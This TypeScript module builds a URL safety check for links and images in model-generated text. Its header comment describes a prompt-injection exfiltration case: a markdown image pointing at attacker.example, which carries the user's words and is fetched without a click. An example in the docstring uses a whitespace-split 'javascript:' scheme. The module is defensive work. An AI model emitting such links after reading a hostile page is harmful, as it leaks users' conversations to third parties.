/**
 * Which addresses of a model's text a page may use. A model that has read a hostile page can write
 * `![](https://attacker.example/?q=…)` with what the user said in it. A browser fetches an image without a click: the conversation leaves. To
 * sanitizers of HTML the address is a valid one.
 *
 * @see https://url.spec.whatwg.org/#url-parsing
 *
 * @module
 */

/** Which addresses are safe. Origins are written as `https://docs.example`, with a port if it is not the default. */
export interface UrlPolicy {
  /** `all`, the default: `https:`, `http:` and `mailto:`. A list: only these origins; `mailto:` in it allows mail. */
  readonly links?: 'all' | 'none' | readonly string[]
  /**
   * `none`, the default: nothing that makes a request. `same-origin`: images of the origin of `base`. A list: only these origins. Images in
   * `data:` make no request, and are safe by each of these if they are PNG, JPEG, GIF, WebP or AVIF in base64.
   */
  readonly images?: 'none' | 'same-origin' | readonly string[]
  /** The base of relative addresses: the address of the page. Default: relative addresses are not safe. */
  readonly base?: string
  /** Longest address, in characters, except of `data:`. Default 2048. Long ones carry text away. */
  readonly maxLength?: number
}

const picture = /^data:image\/(?:png|jpeg|gif|webp|avif);base64,[a-z\d+/]+={0,2}$/i

/**
 * An address of a model's text in the form in which a browser reads it, or `undefined` if it is not safe. Use what is returned, and not what
 * was given: a browser ignores white space and control characters that would hide a scheme from a check.
 *
 * @param use `link`: what a person clicks. `image`: what a browser fetches by itself; also for media, frames and styles.
 * @throws {TypeError} if an address in the policy is not valid.
 * @example
 * ```ts
 * import { safeUrl } from 'isoglot/safe-url'
 *
 * safeUrl('https://docs.example/a b', 'link') // https://docs.example/a%20b
 * safeUrl('java\nscript:alert(1)', 'link') // undefined
 * safeUrl('https://docs.example/a.png', 'image') // undefined
 * safeUrl('https://docs.example/a.png', 'image', { images: ['https://docs.example'] }) // the same address
 * ```
 */
export function safeUrl(url: string, use: 'link' | 'image', policy: UrlPolicy = {}): string | undefined {
  const { links = 'all', images = 'none', base, maxLength = 2048 } = policy
  if (use === 'image' && picture.test(url)) return url
  const home = base === undefined ? undefined : policyUrl(base)
  if (url.length > maxLength || !URL.canParse(url, home?.href)) return undefined
  const { protocol, origin, href, username, password } = new URL(url, home?.href)
  if (username !== '' || password !== '' || href.length > maxLength) return undefined
  const isMail = protocol === 'mailto:' && use === 'link'
  // `blob:` has an origin too.
  if (!isMail && protocol !== 'https:' && protocol !== 'http:') return undefined
  const allowed = use === 'link' ? links : images === 'same-origin' ? [home?.origin ?? ''] : images
  if (allowed === 'none') return undefined
  if (allowed === 'all') return href
  const isAllowed = isMail ? allowed.includes('mailto:') : allowed.some((one) => originOf(one) === origin)
  return isAllowed ? href : undefined
}

/** Compared as origins: a text that begins like an allowed one may be another host. */
function originOf(allowed: string): string {
  return allowed === 'mailto:' || allowed === '' ? '' : policyUrl(allowed).origin
}

function policyUrl(address: string): URL {
  if (URL.canParse(address) && /^https?:$/.test(new URL(address).protocol)) return new URL(address)
  throw new TypeError(`Cannot check a URL: "${address}" in the policy is not an address such as "https://docs.example"`)
}
